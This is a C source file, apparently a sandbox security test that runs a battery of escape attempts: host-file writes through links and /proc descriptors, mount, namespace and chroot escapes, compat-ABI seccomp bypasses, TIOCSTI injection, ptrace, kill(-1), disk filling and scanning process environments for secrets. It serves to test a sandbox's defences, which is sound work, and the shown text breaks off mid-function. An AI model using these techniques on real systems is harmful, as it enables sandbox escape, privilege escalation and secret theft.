/* attack: a multi-call escape attempt, run inside a tars sandbox by tests/security/escape.sh.
 *
 *   attack NAME [ARG...]
 *
 * Exit status: 0 only when the attack SUCCEEDED (the sandbox failed), 1 when it was blocked,
 * 77 when its precondition is missing (e.g. no tty), 3 on bad usage.  It prints "started [NAME]",
 * then one line saying what happened ("ATTACK SUCCEEDED [NAME]: ...", "blocked [NAME]: ..." or
 * "skip [NAME]: ..."), with the errno, so a failure in the battery's log explains itself.
 *
 * Attacks never do lasting harm when they succeed: writes to system files only open them for
 * writing, and capability checks use arguments the kernel rejects right after the check.  */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <grp.h>
#include <sys/fsuid.h>
#include <sys/klog.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <net/if.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/personality.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define OK_SUCCEEDED 0
#define OK_BLOCKED 1
#define OK_USAGE 3
#define OK_SKIP 77

static const char *attack_name = "?";

static int
succeeded(const char *fmt, ...)
{
  va_list ap;
  printf("ATTACK SUCCEEDED [%s]: ", attack_name);
  va_start(ap, fmt);
  vprintf(fmt, ap);
  va_end(ap);
  putchar('\n');
  fflush(stdout);
  return OK_SUCCEEDED;
}

static int
blocked(const char *fmt, ...)
{
  va_list ap;
  int e = errno;
  printf("blocked [%s]: ", attack_name);
  va_start(ap, fmt);
  vprintf(fmt, ap);
  va_end(ap);
  putchar('\n');
  fflush(stdout);
  errno = e;
  return OK_BLOCKED;
}

static int
skip(const char *fmt, ...)
{
  va_list ap;
  printf("skip [%s]: ", attack_name);
  va_start(ap, fmt);
  vprintf(fmt, ap);
  va_end(ap);
  putchar('\n');
  fflush(stdout);
  return OK_SKIP;
}

static void
note(const char *fmt, ...)
{
  va_list ap;
  printf("  note [%s]: ", attack_name);
  va_start(ap, fmt);
  vprintf(fmt, ap);
  va_end(ap);
  putchar('\n');
  fflush(stdout);
}

#define E strerror(errno)

/* ---- files ------------------------------------------------------------------------------ */

/* Open for writing without writing: proves the attack without damaging a system file.  */
static int
a_openw(int argc, char **argv)
{
  int fd = open(argv[0], O_WRONLY | O_APPEND | O_NOCTTY | O_NONBLOCK);
  if (fd < 0)
    return blocked("open(%s, O_WRONLY): %s", argv[0], E);
  close(fd);
  return succeeded("opened %s for writing", argv[0]);
}

/* Append a marker line (only used on the test's own victim files).  */
static int
a_write(int argc, char **argv)
{
  const char *msg = argc > 1 ? argv[1] : "tars-escape\n";
  int fd = open(argv[0], O_WRONLY | O_APPEND | O_NOCTTY);
  if (fd < 0)
    return blocked("open(%s, O_WRONLY): %s", argv[0], E);
  ssize_t n = write(fd, msg, strlen(msg));
  int e = errno;
  int c = close(fd);
  if (n <= 0)
    return errno = e, blocked("write(%s): %s", argv[0], n < 0 ? E : "short");
  if (c < 0)
    return blocked("close(%s): %s", argv[0], E);
  return succeeded("wrote %zd bytes to %s", n, argv[0]);
}

static int
a_create(int argc, char **argv)
{
  int fd = open(argv[0], O_WRONLY | O_CREAT | O_EXCL | O_NOCTTY, 0644);
  if (fd < 0)
    return blocked("create %s: %s", argv[0], E);
  if (write(fd, "tars-escape\n", 12) != 12)
    note("write: %s", E);
  close(fd);
  return succeeded("created %s", argv[0]);
}

static int
a_mkdir(int argc, char **argv)
{
  if (mkdir(argv[0], 0755) < 0)
    return blocked("mkdir %s: %s", argv[0], E);
  return succeeded("mkdir %s", argv[0]);
}

static int
a_unlink(int argc, char **argv)
{
  if (unlink(argv[0]) < 0)
    return blocked("unlink %s: %s", argv[0], E);
  return succeeded("unlinked %s", argv[0]);
}

static int
a_rename(int argc, char **argv)
{
  if (rename(argv[0], argv[1]) < 0)
    return blocked("rename %s -> %s: %s", argv[0], argv[1], E);
  return succeeded("renamed %s -> %s", argv[0], argv[1]);
}

static int
a_truncate(int argc, char **argv)
{
  if (truncate(argv[0], 0) < 0)
    return blocked("truncate %s: %s", argv[0], E);
  return succeeded("truncated %s", argv[0]);
}

static int
a_utime(int argc, char **argv)
{
  struct timespec ts[2] = {{1, 0}, {1, 0}};
  if (utimensat(AT_FDCWD, argv[0], ts, 0) < 0)
    return blocked("utimensat %s: %s", argv[0], E);
  return succeeded("set the times of %s", argv[0]);
}

static int
a_setxattr(int argc, char **argv)
{
  const char *name = argc > 1 ? argv[1] : "user.tars_escape";
  const char *value = argc > 2 ? argv[2] : "1";
  if (setxattr(argv[0], name, value, strlen(value), 0) < 0)
    return blocked("setxattr %s %s: %s", argv[0], name, E);
  return succeeded("set %s=%s on %s", name, value, argv[0]);
}

static int
a_chmod_suid(int argc, char **argv)
{
  if (chmod(argv[0], 04777) < 0)
    return blocked("chmod 04777 %s: %s", argv[0], E);
  return succeeded("chmod 04777 %s", argv[0]);
}

static int
a_chown(int argc, char **argv)
{
  if (chown(argv[0], 0, 0) < 0)
    return blocked("chown 0:0 %s: %s", argv[0], E);
  return succeeded("chown 0:0 %s", argv[0]);
}

/* Reopen a read-only descriptor for writing through its /proc magic link.  */
static int
a_fd_reopen(int argc, char **argv)
{
  char p[64];
  int fd = open(argv[0], O_RDONLY);
  if (fd < 0)
    return blocked("open(%s): %s", argv[0], E);
  snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
  int w = open(p, O_WRONLY | O_APPEND);
  if (w < 0)
    return blocked("reopen %s as %s O_WRONLY: %s", argv[0], p, E);
  close(w);
  return succeeded("reopened %s for writing via %s", argv[0], p);
}

/* O_TMPFILE in a directory, then give it a name.  */
static int
a_tmpfile_link(int argc, char **argv)
{
  char p[64];
  int fd = open(argv[0], O_TMPFILE | O_WRONLY, 0644);
  if (fd < 0)
    return blocked("open(%s, O_TMPFILE): %s", argv[0], E);
  snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
  if (linkat(AT_FDCWD, p, AT_FDCWD, argv[1], AT_SYMLINK_FOLLOW) < 0)
    return blocked("linkat tmpfile -> %s: %s", argv[1], E);
  return succeeded("linked an O_TMPFILE as %s", argv[1]);
}

/* A symlink (made here, in the workspace) to a host file, then a write through it.  */
static int
a_symlink_write(int argc, char **argv)
{
  const char *target = argv[0], *link = argv[1];
  if (symlink(target, link) < 0 && errno != EEXIST)
    return blocked("symlink %s -> %s: %s", link, target, E);
  char *a[] = {(char *)link, NULL};
  return a_write(1, a);
}

/* A hard link (made here) to a host file, then a write through it.  */
static int
a_hardlink_write(int argc, char **argv)
{
  const char *target = argv[0], *name = argv[1];
  if (link(target, name) < 0)
    return blocked("link %s -> %s: %s", name, target, E);
  note("hard link %s -> %s made", name, target);
  char *a[] = {(char *)name, NULL};
  return a_write(1, a);
}

static int
a_read(int argc, char **argv)
{
  char buf[256];
  int fd = open(argv[0], O_RDONLY | O_NOCTTY | O_NONBLOCK);
  if (fd < 0)
    return blocked("open(%s): %s", argv[0], E);
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0)
    return blocked("read(%s): %s", argv[0], n < 0 ? E : "empty");
  buf[n] = 0;
  for (ssize_t i = 0; i < n; i++)
    if (buf[i] < 32 || buf[i] > 126)
      buf[i] = '.';
  return succeeded("read %zd bytes of %s: %.60s", n, argv[0], buf);
}

/* Succeeds when a directory lists anything (but ARGV[1], the mount point of a workspace inside
 * it): hidden directories must be empty.  */
static int
a_list(int argc, char **argv)
{
  DIR *d = opendir(argv[0]);
  if (!d)
    return blocked("opendir(%s): %s", argv[0], E);
  struct dirent *de;
  int n = 0;
  char names[256] = "";
  while ((de = readdir(d)))
    {
      if (!strcmp(de->d_name, ".") || !strcmp(de->d_name, "..") ||
          (argc > 1 && !strcmp(de->d_name, argv[1])))
        continue;
      n++;
      if (strlen(names) + strlen(de->d_name) + 2 < sizeof names)
        strcat(strcat(names, " "), de->d_name);
    }
  closedir(d);
  if (n == 0)
    return blocked("%s is empty", argv[0]);
  return succeeded("%s lists %d entries:%s", argv[0], n, names);
}

static int
a_stat(int argc, char **argv)
{
  struct stat st;
  if (lstat(argv[0], &st) < 0)
    return blocked("lstat(%s): %s", argv[0], E);
  return succeeded("%s exists (mode %o)", argv[0], st.st_mode);
}

static int
a_mknod(int argc, char **argv)
{
  const char *path = argv[0], *kind = argv[1];
  mode_t m;
  dev_t d = 0;
  if (!strcmp(kind, "c"))
    m = S_IFCHR, d = makedev(1, 1); /* /dev/mem */
  else if (!strcmp(kind, "b"))
    m = S_IFBLK, d = makedev(8, 0); /* /dev/sda */
  else if (!strcmp(kind, "p"))
    m = S_IFIFO;
  else
    return OK_USAGE;
  if (mknod(path, m | 0666, d) < 0)
    return blocked("mknod %s %s: %s", path, kind, E);
  return succeeded("mknod %s %s", path, kind);
}

/* Makes a setuid file; the battery then checks the changeset and the host copy.  */
static int
a_setuid_file(int argc, char **argv)
{
  int fd = open(argv[0], O_WRONLY | O_CREAT | O_TRUNC, 0755);
  if (fd < 0)
    return blocked("create %s: %s", argv[0], E);
  if (write(fd, "#!/bin/sh\nid\n", 13) < 0)
    note("write: %s", E);
  close(fd);
  if (chmod(argv[0], 06755) < 0)
    return blocked("chmod 06755 %s: %s", argv[0], E);
  struct stat st;
  stat(argv[0], &st);
  if (!(st.st_mode & (S_ISUID | S_ISGID)))
    return blocked("chmod 06755 %s left mode %o", argv[0], st.st_mode & 07777);
  return succeeded("made %s mode %o inside the sandbox", argv[0], st.st_mode & 07777);
}

/* Writes a directory's worth of 64 MiB files until ENOSPC/EFBIG or TARGET MiB.  */
static int
a_fill(int argc, char **argv)
{
  const char *dir = argv[0];
  long target = atol(argv[1]);
  static char buf[1 << 20];
  memset(buf, 'x', sizeof buf);
  long total = 0;
  for (int f = 0; total < target; f++)
    {
      char p[4096];
      snprintf(p, sizeof p, "%s/tars-fill-%d", dir, f);
      int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0644);
      if (fd < 0)
        return blocked("create %s after %ld MiB: %s", p, total, E);
      for (int i = 0; i < 64 && total < target; i++)
        {
          ssize_t n = write(fd, buf, sizeof buf);
          if (n != (ssize_t)sizeof buf)
            {
              int e = errno;
              close(fd);
              errno = e;
              return blocked("write %s after %ld MiB: %s", p, total, n < 0 ? E : "short write");
            }
          total++;
        }
      if (close(fd) < 0)
        return blocked("close %s after %ld MiB: %s", p, total, E);
    }
  return succeeded("wrote %ld MiB to %s", total, dir);
}

/* A listening unix socket in the workspace, left behind for the changeset capture.  */
static int
a_bind_unix(int argc, char **argv)
{
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  strncpy(a.sun_path, argv[0], sizeof a.sun_path - 1);
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0)
    return blocked("bind unix %s: %s", argv[0], E);
  return succeeded("bound a unix socket at %s", argv[0]);
}

/* ---- mounts and namespaces -------------------------------------------------------------- */

static int
a_mount_tmpfs(int argc, char **argv)
{
  if (mount("tmpfs", argv[0], "tmpfs", 0, "size=1m") < 0)
    return blocked("mount tmpfs on %s: %s", argv[0], E);
  return succeeded("mounted tmpfs on %s", argv[0]);
}

static int
a_remount_rw(int argc, char **argv)
{
  if (mount(NULL, argv[0], NULL, MS_REMOUNT | MS_BIND, NULL) < 0 &&
      mount(NULL, argv[0], NULL, MS_REMOUNT, NULL) < 0)
    return blocked("remount %s rw: %s", argv[0], E);
  return succeeded("remounted %s read-write", argv[0]);
}

static int
a_bind(int argc, char **argv)
{
  if (mount(argv[0], argv[1], NULL, MS_BIND | MS_REC, NULL) < 0)
    return blocked("bind %s on %s: %s", argv[0], argv[1], E);
  return succeeded("bind-mounted %s on %s", argv[0], argv[1]);
}

static int
a_umount(int argc, char **argv)
{
  if (umount2(argv[0], MNT_DETACH) < 0)
    return blocked("umount %s: %s", argv[0], E);
  return succeeded("unmounted %s", argv[0]);
}

static int
a_pivot_root(int argc, char **argv)
{
  if (syscall(SYS_pivot_root, "/tmp", "/tmp") < 0)
    return blocked("pivot_root: %s", E);
  return succeeded("pivot_root(/tmp, /tmp)");
}

/* The new mount API: fsopen/fsmount, open_tree(OPEN_TREE_CLONE)+move_mount, mount_setattr.  */
#ifndef SYS_fsopen
#define SYS_open_tree 428
#define SYS_move_mount 429
#define SYS_fsopen 430
#define SYS_fsconfig 431
#define SYS_fsmount 432
#define SYS_mount_setattr 442
#endif
static int
a_fsopen(int argc, char **argv)
{
  int fd = syscall(SYS_fsopen, "tmpfs", 0);
  if (fd < 0)
    return blocked("fsopen(tmpfs): %s", E);
  if (syscall(SYS_fsconfig, fd, 6 /* FSCONFIG_CMD_CREATE */, NULL, NULL, 0) < 0)
    return blocked("fsconfig(CREATE): %s", E);
  int m = syscall(SYS_fsmount, fd, 0, 0);
  if (m < 0)
    return blocked("fsmount: %s", E);
  return succeeded("fsopen+fsmount made a tmpfs mount fd");
}

static int
a_open_tree(int argc, char **argv)
{
  int fd =
      syscall(SYS_open_tree, AT_FDCWD, "/etc", 1 /* OPEN_TREE_CLONE */ | 0x8000 /* AT_RECURSIVE */);
  if (fd < 0)
    return blocked("open_tree(/etc, CLONE): %s", E);
  if (syscall(SYS_move_mount, fd, "", AT_FDCWD, argv[0], 4 /* MOVE_MOUNT_F_EMPTY_PATH */) < 0)
    return blocked("move_mount onto %s: %s", argv[0], E);
  return succeeded("cloned /etc and attached it at %s", argv[0]);
}

struct tars_mount_attr
{
  uint64_t attr_set, attr_clr, propagation, userns_fd;
};
static int
a_mount_setattr(int argc, char **argv)
{
  struct tars_mount_attr a = {.attr_clr = 0x1 /* MOUNT_ATTR_RDONLY */};
  if (syscall(SYS_mount_setattr, AT_FDCWD, argv[0], 0, &a, sizeof a) < 0)
    return blocked("mount_setattr(%s, clear RDONLY): %s", argv[0], E);
  return succeeded("cleared MOUNT_ATTR_RDONLY on %s", argv[0]);
}

static int
flag_of(const char *s)
{
  static const struct
  {
    const char *n;
    int f;
  } t[] = {
      {"user", CLONE_NEWUSER},     {"mnt", CLONE_NEWNS},
      {"pid", CLONE_NEWPID},       {"net", CLONE_NEWNET},
      {"ipc", CLONE_NEWIPC},       {"uts", CLONE_NEWUTS},
      {"cgroup", CLONE_NEWCGROUP}, {"time", 0x80 /* CLONE_NEWTIME */},
  };
  for (size_t i = 0; i < sizeof t / sizeof *t; i++)
    if (!strcmp(t[i].n, s))
      return t[i].f;
  return -1;
}

/* unshare FLAGS...: then, for user+mnt, try the classic nested mount.  */
static int
a_unshare(int argc, char **argv)
{
  int flags = 0;
  for (int i = 0; i < argc; i++)
    {
      int f = flag_of(argv[i]);
      if (f < 0)
        return OK_USAGE;
      flags |= f;
    }
  if (unshare(flags) < 0)
    return blocked("unshare(%#x): %s", flags, E);
  if ((flags & CLONE_NEWNS) && mount("tmpfs", "/tmp", "tmpfs", 0, NULL) == 0)
    return succeeded("unshare(%#x) and mounted a tmpfs in the nested namespace", flags);
  return succeeded("unshare(%#x)", flags);
}

static int
a_clone_ns(int argc, char **argv)
{
  int f = flag_of(argc ? argv[0] : "user");
  long pid = syscall(SYS_clone, (long)(f | SIGCHLD), 0L, 0L, 0L, 0L);
  if (pid < 0)
    return blocked("clone(%#x): %s", f, E);
  if (pid == 0)
    _exit(0);
  waitpid(pid, NULL, 0);
  return succeeded("clone(%#x) made a child in a new namespace", f);
}

struct tars_clone_args
{
  uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
};
static int
a_clone3(int argc, char **argv)
{
  struct tars_clone_args ca = {.flags = CLONE_NEWUSER | CLONE_NEWNS, .exit_signal = SIGCHLD};
  long pid = syscall(435 /* clone3 */, &ca, sizeof ca);
  if (pid < 0)
    return blocked("clone3(NEWUSER|NEWNS): %s", E);
  if (pid == 0)
    _exit(0);
  waitpid(pid, NULL, 0);
  return succeeded("clone3 made a child in new user+mount namespaces");
}

static int
a_setns(int argc, char **argv)
{
  int fd = open(argv[0], O_RDONLY);
  if (fd < 0)
    return blocked("open(%s): %s", argv[0], E);
  if (setns(fd, 0) < 0)
    return blocked("setns(%s): %s", argv[0], E);
  return succeeded("setns(%s)", argv[0]);
}

/* The seccomp filter must hold for the other syscall ABIs too: i386 (int $0x80) and x32
 * (numbers with bit 30 set).  The attempt runs in a child, since a filter may kill it.  */
#if defined(__x86_64__)
static long
i386_syscall(long nr, long a, long b, long c, long d, long e)
{
  long ret;
  __asm__ volatile("int $0x80"
                   : "=a"(ret)
                   : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
                   : "memory");
  return ret;
}
#endif
static int
a_compat_abi(int argc, char **argv)
{
#if defined(__x86_64__)
  const char *abi = argv[0];
  fflush(stdout);
  pid_t c = fork();
  if (c == 0)
    {
      long r;
      if (!strcmp(abi, "i386"))
        {
          /* i386: unshare is 310, mount 21; the arguments must be below 4 GiB.  */
          static char src[] = "tmpfs", dst[] = "/tmp", type[] = "tmpfs";
          r = i386_syscall(310, CLONE_NEWUSER | CLONE_NEWNS, 0, 0, 0, 0);
          if (r == 0)
            _exit(0);
          printf("  note [compat_abi]: i386 unshare: %s\n", strerror((int)-r));
          if ((unsigned long)src < 0x100000000UL)
            {
              r = i386_syscall(21, (long)src, (long)dst, (long)type, 0, 0);
              if (r == 0)
                _exit(0);
              printf("  note [compat_abi]: i386 mount: %s\n", strerror((int)-r));
            }
        }
      else
        {
          r = syscall(0x40000000L | 272 /* x32 unshare */, CLONE_NEWUSER | CLONE_NEWNS);
          if (r == 0)
            _exit(0);
          printf("  note [compat_abi]: x32 unshare: %s\n", strerror(errno));
          r = syscall(0x40000000L | 165 /* x32 mount */, "tmpfs", "/tmp", "tmpfs", 0, NULL);
          if (r == 0)
            _exit(0);
          printf("  note [compat_abi]: x32 mount: %s\n", strerror(errno));
        }
      fflush(stdout);
      _exit(1);
    }
  int st;
  waitpid(c, &st, 0);
  if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
    return succeeded("%s syscalls got past the filter: unshare or mount worked", abi);
  if (WIFSIGNALED(st) && WTERMSIG(st) == SIGSEGV)
    return skip("int $0x80 faults: this kernel has no i386 emulation");
  if (WIFSIGNALED(st))
    return blocked("%s syscall: killed by signal %d", abi, WTERMSIG(st));
  return blocked("%s unshare and mount refused", abi);
#else
  return skip("not x86_64");
#endif
}

/* socket() through the i386 socketcall multiplexer and the i386 socket syscall, and TIOCSTI
 * through the x32 ioctl: the filter must see them as it sees the native calls.  */
static int
a_compat_route(int argc, char **argv)
{
#if defined(__x86_64__)
  const char *what = argv[0];
  fflush(stdout);
  pid_t c = fork();
  if (c == 0)
    {
      long r;
      if (!strcmp(what, "i386-socketcall"))
        {
          /* socketcall's arguments sit behind a pointer, which must be below 4 GiB.  */
          unsigned int *args = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
                                    MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
          if (args == MAP_FAILED)
            _exit(77);
          args[0] = AF_NETLINK;
          args[1] = SOCK_RAW;
          args[2] = 0;
          r = i386_syscall(102 /* socketcall */, 1 /* SYS_SOCKET */, (long)args, 0, 0, 0);
          if (r >= 0)
            _exit(0);
          printf("  note [compat_route]: i386 socketcall(SOCKET, AF_NETLINK): %s\n",
                 strerror((int)-r));
          r = i386_syscall(359 /* socket */, AF_PACKET, SOCK_RAW, 0, 0, 0);
          if (r >= 0)
            _exit(0);
          printf("  note [compat_route]: i386 socket(AF_PACKET): %s\n", strerror((int)-r));
        }
      else
        {
          int m = posix_openpt(O_RDWR | O_NOCTTY);
          if (m < 0 || grantpt(m) < 0 || unlockpt(m) < 0)
            _exit(77);
          int t = open(ptsname(m), O_RDWR | O_NOCTTY);
          if (t < 0)
            _exit(77);
          char ch = '#';
          r = syscall(0x40000000L | 514 /* x32 ioctl */, t, TIOCSTI, &ch);
          if (r == 0)
            _exit(0);
          printf("  note [compat_route]: x32 ioctl(TIOCSTI): %s\n", strerror(errno));
        }
      fflush(stdout);
      _exit(1);
    }
  int st;
  waitpid(c, &st, 0);
  if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
    return succeeded("%s got past the filter", what);
  if (WIFEXITED(st) && WEXITSTATUS(st) == 77)
    return skip("%s: no pty or no low memory for the arguments", what);
  if (WIFSIGNALED(st) && WTERMSIG(st) == SIGSEGV)
    return skip("int $0x80 faults: this kernel has no i386 emulation");
  if (WIFSIGNALED(st))
    return blocked("%s: killed by signal %d", what, WTERMSIG(st));
  return blocked("%s refused", what);
#else
  return skip("not x86_64");
#endif
}

/* personality(2) flags that weaken exploit mitigations (no ASLR, executable data).  */
static int
a_personality(int argc, char **argv)
{
  static const struct
  {
    const char *n;
    unsigned long v;
  } t[] = {{"ADDR_NO_RANDOMIZE", ADDR_NO_RANDOMIZE},
           {"READ_IMPLIES_EXEC", READ_IMPLIES_EXEC},
           {"ADDR_COMPAT_LAYOUT", ADDR_COMPAT_LAYOUT},
           {"MMAP_PAGE_ZERO", MMAP_PAGE_ZERO},
           {"PER_LINUX32|ADDR_NO_RANDOMIZE", PER_LINUX32 | ADDR_NO_RANDOMIZE}};
  int got = 0;
  for (size_t i = 0; i < sizeof t / sizeof *t; i++)
    {
      int before = personality(0xffffffff);
      if (personality(t[i].v) >= 0 && personality(0xffffffff) == (int)t[i].v)
        {
          note("personality(%s) took effect", t[i].n);
          got++;
        }
      else
        note("personality(%s): %s", t[i].n, E);
      personality((unsigned long)before);
    }
  if (got)
    return succeeded("%d personality flags could be set", got);
  return blocked("no personality flag could be set");
}

/* A descriptor of the host's mount namespace (stdin redirected from a host directory, or an
 * O_PATH one) as a way out: fchdir to it, climb "..", and see whether the working directory left
 * the sandbox's root; then try to create MARKER (an absolute host path, opened relative to the
 * host's root reached that way).  */
static int
a_fchdir_escape(int argc, char **argv)
{
  int fd = atoi(argv[0]);
  struct stat root, st;
  if (fstat(fd, &st) < 0)
    return blocked("fstat %d: %s", fd, E);
  note("descriptor %d: mode %o", fd, st.st_mode & S_IFMT);
  if (fchdir(fd) < 0)
    return blocked("fchdir(%d): %s", fd, E);
  for (int i = 0; i < 64; i++)
    if (chdir("..") < 0)
      break;
  if (stat("/", &root) < 0 || stat(".", &st) < 0)
    return blocked("stat: %s", E);
  bool out = st.st_dev != root.st_dev || st.st_ino != root.st_ino;
  const char *rel = argv[1];
  while (*rel == '/')
    rel++;
  int m = open(rel, O_WRONLY | O_CREAT | O_EXCL, 0644);
  if (m >= 0)
    return succeeded("created the host file %s through descriptor %d", argv[1], fd);
  if (out)
    return succeeded("the working directory left the sandbox's root through descriptor %d "
                     "(creating %s: %s)",
                     fd, argv[1], E);
  return blocked("descriptor %d leads nowhere outside (%s: %s)", fd, argv[1], E);
}

/* Reopen our descriptor FD through /proc/self/fd: for reading (does it show MARKER, what the
 * host file held before?) or for writing (can a host file be changed through it?).  */
static int
a_reopen_fd(int argc, char **argv)
{
  char p[64];
  int fd = atoi(argv[0]);
  bool w = argv[1][0] == 'w';
  snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
  int r = open(p, (w ? O_WRONLY | O_APPEND : O_RDONLY) | O_NONBLOCK);
  if (r < 0)
    return blocked("reopen %s for %s: %s", p, w ? "writing" : "reading", E);
  struct stat st;
  fstat(r, &st);
  if (w)
    {
      if (!S_ISREG(st.st_mode))
        return blocked("%s reopens as mode %o, not a host file", p, st.st_mode & S_IFMT);
      if (write(r, "pwned through /proc/self/fd\n", 28) != 28)
        return blocked("write through %s: %s", p, E);
      return succeeded("wrote to the host file behind descriptor %d", fd);
    }
  char buf[65536];
  ssize_t n = read(r, buf, sizeof buf - 1);
  if (n < 0)
    return blocked("read %s: %s", p, E);
  buf[n] = '\0';
  if (argc > 2 && strstr(buf, argv[2]))
    return succeeded("read what the host file behind descriptor %d held before", fd);
  return blocked("%s (mode %o) shows nothing of the host file", p, st.st_mode & S_IFMT);
}

/* A directory tree LEVELS deep below DIR, made through descriptors (a path that long cannot be
 * named): what a changeset cannot hold, which must not make the whole capture fail.  */
static int
a_deep_tree(int argc, char **argv)
{
  int levels = atoi(argv[1]);
  if (mkdir(argv[0], 0755) < 0 && errno != EEXIST)
    return blocked("mkdir %s: %s", argv[0], E);
  int fd = open(argv[0], O_RDONLY | O_DIRECTORY);
  for (int i = 0; fd >= 0 && i < levels; i++)
    {
      if (mkdirat(fd, "a", 0755) < 0)
        return blocked("mkdir at level %d: %s", i, E);
      int next = openat(fd, "a", O_RDONLY | O_DIRECTORY);
      close(fd);
      fd = next;
    }
  if (fd < 0)
    return blocked("open: %s", E);
  if (close(openat(fd, "leaf.txt", O_WRONLY | O_CREAT, 0644)) < 0)
    return blocked("create the leaf: %s", E);
  return blocked("made a tree %d levels deep below %s; the capture decides", levels, argv[0]);
}

/* mkdir x; chroot x; chdir ..; chroot .  */
static int
a_chroot_escape(int argc, char **argv)
{
  if (mkdir("/tmp/tars-chroot", 0755) < 0 && errno != EEXIST)
    return blocked("mkdir /tmp/tars-chroot: %s", E);
  if (chroot("/tmp/tars-chroot") < 0)
    return blocked("chroot: %s", E);
  for (int i = 0; i < 64; i++)
    if (chdir("..") < 0)
      break;
  if (chroot(".") < 0)
    return blocked("chroot(.) after cd ..: %s", E);
  return succeeded("chroot + cd .. + chroot . worked");
}

/* ---- processes ---------------------------------------------------------------------------- */

static int
a_ptrace_child(int argc, char **argv)
{
  pid_t c = fork();
  if (c == 0)
    {
      pause();
      _exit(0);
    }
  int r = ptrace(PTRACE_ATTACH, c, 0, 0);
  int e = errno;
  kill(c, SIGKILL);
  waitpid(c, NULL, 0);
  if (r < 0)
    {
      errno = e;
      pid_t c2 = fork();
      if (c2 == 0)
        _exit(ptrace(PTRACE_TRACEME, 0, 0, 0) == 0 ? 0 : 1);
      int st;
      waitpid(c2, &st, 0);
      if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
        return succeeded("PTRACE_TRACEME worked (PTRACE_ATTACH: %s)", strerror(e));
      errno = e;
      return blocked("ptrace(ATTACH, child) and PTRACE_TRACEME: %s", E);
    }
  return succeeded("ptrace(ATTACH) of a child");
}

static int
a_ptrace_pid(int argc, char **argv)
{
  pid_t p = atoi(argv[0]);
  if (p == getpid())
    return skip("pid %d is myself", p);
  if (ptrace(PTRACE_SEIZE, p, 0, 0) < 0 && ptrace(PTRACE_ATTACH, p, 0, 0) < 0)
    return blocked("ptrace(SEIZE/ATTACH, %d): %s", p, E);
  ptrace(PTRACE_DETACH, p, 0, 0);
  return succeeded("ptrace attached to pid %d", p);
}

static int
a_vm_read(int argc, char **argv)
{
  pid_t p = atoi(argv[0]);
  if (p == getpid())
    return skip("pid %d is myself", p);
  /* Any mapped address will do: a host process is not visible anyway; for a process in the
   * sandbox, try its first mapping.  */
  unsigned long addr = 0x400000;
  char mp[64], line[256];
  snprintf(mp, sizeof mp, "/proc/%d/maps", p);
  FILE *f = fopen(mp, "r");
  if (f)
    {
      if (fgets(line, sizeof line, f))
        addr = strtoul(line, NULL, 16);
      fclose(f);
    }
  char buf[16];
  struct iovec l = {buf, sizeof buf}, r = {(void *)addr, sizeof buf};
  ssize_t n = process_vm_readv(p, &l, 1, &r, 1, 0);
  if (n < 0)
    return blocked("process_vm_readv(%d, %#lx): %s", p, addr, E);
  return succeeded("process_vm_readv read %zd bytes of pid %d", n, p);
}

static int
a_kill(int argc, char **argv)
{
  pid_t p = atoi(argv[0]);
  if (kill(p, SIGKILL) < 0)
    return blocked("kill(%d, SIGKILL): %s", p, E);
  return succeeded("sent SIGKILL to pid %d", p);
}

/* kill(-1): only the side effect on the host matters; always "blocked" here.  */
static int
a_kill_all(int argc, char **argv)
{
  signal(SIGTERM, SIG_IGN);
  int r = kill(-1, SIGKILL);
  return blocked("kill(-1, SIGKILL) returned %d (%s); the host check decides", r, r < 0 ? E : "ok");
}

static int
a_proc_exe_write(int argc, char **argv)
{
  char p[64], q[64];
  snprintf(p, sizeof p, "/proc/%s/exe", argv[0]);
  int fd = open(p, O_WRONLY);
  if (fd >= 0)
    {
      close(fd);
      return succeeded("opened %s for writing", p);
    }
  note("open(%s, O_WRONLY): %s", p, E);
  fd = open(p, O_PATH);
  if (fd < 0)
    return blocked("open(%s, O_PATH): %s", p, E);
  snprintf(q, sizeof q, "/proc/self/fd/%d", fd);
  int w = open(q, O_WRONLY);
  if (w >= 0)
    return succeeded("reopened %s for writing through an O_PATH fd", p);
  return blocked("reopen %s via O_PATH fd for writing: %s", p, E);
}

/* Read every visible process's environment for NAME (and our own).  */
static int
a_env_scan(int argc, char **argv)
{
  const char *name = argv[0];
  size_t nl = strlen(name);
  if (getenv(name))
    return succeeded("own environment has %s", name);
  DIR *d = opendir("/proc");
  if (!d)
    return blocked("opendir /proc: %s", E);
  struct dirent *de;
  int found = 0, scanned = 0;
  while ((de = readdir(d)))
    {
      if (de->d_name[0] < '0' || de->d_name[0] > '9')
        continue;
      char p[300];
      static char buf[1 << 16];
      snprintf(p, sizeof p, "/proc/%s/environ", de->d_name);
      int fd = open(p, O_RDONLY);
      if (fd < 0)
        continue;
      ssize_t n = read(fd, buf, sizeof buf - 1);
      close(fd);
      if (n <= 0)
        continue;
      scanned++;
